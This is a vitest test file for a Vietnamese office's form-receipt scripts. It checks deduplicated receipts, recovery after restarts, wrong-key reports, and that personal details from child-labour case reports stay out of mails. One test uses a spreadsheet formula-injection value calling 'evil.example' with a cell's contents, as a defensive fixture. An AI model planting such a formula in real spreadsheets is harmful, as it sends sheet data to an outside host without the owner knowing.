/** Receipts as the office lives them: the script runs as at Google, events come doubled and at once, machines go down. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { columnsOf } from '../../../functions/forms/define-form.ts';
import { FORMS } from '../../../functions/forms/forms.ts';
import type { Question } from '../../../functions/forms/question.ts';
import { openScriptOffice, type ScriptOffice } from '../script-office.ts';

const school = { unit: 'Trường THCS Kinh Bắc', unitKey: 'kb-thcs-04' };
const training = {
  ...school,
  heldOn: '2026-10-19',
  hours: '3,5',
  topics: ['Nhận biết lao động trẻ em'],
  educators: '35',
  others: 'Không',
};

let office: ScriptOffice;
beforeAll(async () => {
  office = await openScriptOffice();
});
beforeEach(() => {
  office.mails.length = 0;
  office.onMail = async () => {};
});
afterAll(() => office.close());

const receipts = () => office.mails.filter(({ to }) => to === 'thcs@kinhbac.example');

describe('receipts', () => {
  test('fifty submissions at once get fifty receipts, though every event is delivered twice', async () => {
    for (let i = 1; i <= 50; i++) office.submit('training', { ...training, educators: String(i) }, 2);
    office.scripts().wake();
    await office.scripts().idle();
    expect(office.scripts().failures()).toEqual([]);
    const counts = receipts().map(({ text }) => Number(/Số cán bộ, giáo viên, nhân viên: (\d+)/.exec(text)?.[1]));
    expect(counts.toSorted((a, b) => a - b)).toEqual(Array.from({ length: 50 }, (_, i) => i + 1));
    await office.scripts().tick();
    expect(receipts()).toHaveLength(50);
  });

  test('one event delivered fifty times at once makes one receipt, however slow the mail server', async () => {
    // Long enough for the other runs to look for themselves whether it was sent.
    office.onMail = () => new Promise((taken) => setTimeout(taken, 1_000));
    office.submit('training', training, 50);
    office.scripts().wake();
    await office.scripts().idle();
    expect(receipts()).toHaveLength(1);
  });

  test('an event that never came is made good by the daily run', async () => {
    office.submit('training', training, 0);
    office.at('2026-10-21T06:00');
    await office.scripts().tick();
    expect(receipts()).toHaveLength(1);
  });

  test('a machine that goes down while a mail is on its way sends it again, says so, and only once', async () => {
    office.submit('training', training);
    const underWay = new Promise<void>((arrived) => {
      office.onMail = () => {
        arrived();
        return new Promise(() => {}); // its sender never hears that it was taken
      };
    });
    office.scripts().wake();
    await underWay;
    office.onMail = async () => {};
    await office.restart();
    await office.scripts().idle();
    await office.scripts().tick();
    expect(receipts().map(({ text }) => text.includes('Thư này có thể đã được gửi một lần'))).toEqual([false, true]);
  });

  test('a formula typed into an answer stays text in the sheet, and does not travel', async () => {
    const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
    office.submit('training', { ...training, note: formula });
    office.scripts().wake();
    await office.scripts().idle();
    expect(office.values('training').at(-1)).toContain(formula);
    expect(receipts()).toHaveLength(1);
    expect(receipts()[0]?.raw).not.toContain('IMPORTXML');
  });

  test('of a case say only that it arrived', async () => {
    const caseReport = {
      ...school,
      receivedAt: '2026-10-20 07:30',
      age: '13',
      sex: 'Nữ',
      group: 'Không rõ',
      coercion: ['Làm để trừ nợ'],
      note: 'em Canary lớp 7A',
    };
    office.submit('case-report', caseReport);
    office.scripts().wake();
    await office.scripts().idle();
    const [mail] = receipts();
    expect(mail?.text).toContain('Đã nhận phiếu “Báo cáo trường hợp trẻ em”');
    expect(mail?.text).not.toMatch(/13|Nữ|Không rõ|trừ nợ|Canary|7A|NỘI DUNG/);
  });

  test('with a wrong key go to nobody; the office hears of it once a day, and reads beside the links who can get none', async () => {
    for (let i = 0; i < 3; i++) office.submit('training', { ...training, unitKey: `guess-${i}` });
    office.submit('outreach', {
      unit: 'Tổ dân phố số 1',
      unitKey: 'kb-t1-07',
      heldOn: '2026-10-19',
      channel: 'Loa truyền thanh',
    });
    office.scripts().wake();
    await office.scripts().idle();
    expect(office.mails).toEqual([]);
    await office.scripts().tick();
    await office.scripts().tick();
    expect(office.mails.map(({ to, subject }) => [to, subject])).toEqual([
      ['vhxh@kinhbac.example', 'Phiếu có mã đơn vị không đúng: 3'],
    ]);
    expect(office.mails[0]?.text).toContain('Báo cáo lớp tập huấn: 3 phiếu');
    const receiptsColumn = office.values('links').map((row) => row[2]);
    expect(receiptsColumn).toContain('thcs@kinhbac.example');
    expect(receiptsColumn).toContain('Hộp thư sai hoặc ngoài tên miền được phép');
  });

  test('carry no canary out of any box of any form', async () => {
    const canary = 'Nguyễn Thị Canary 0912345678';
    const typed = ({ kind, machine }: Question): boolean =>
      !machine && ['text', 'lines', 'integer', 'decimal', 'month'].includes(kind);
    for (const form of FORMS) {
      const boxes = columnsOf(form).filter((question: Question) => typed(question) && question.key !== 'unitKey');
      office.submit(form.id, { ...school, ...Object.fromEntries(boxes.map(({ key }) => [key, canary])) });
    }
    office.scripts().wake();
    await office.scripts().idle();
    expect(receipts()).toHaveLength(FORMS.length);
    for (const { subject, text, raw } of office.mails)
      expect(`${subject}${text}${raw}`).not.toMatch(/Canary|0912345678|kb-thcs-04/);
  });
});
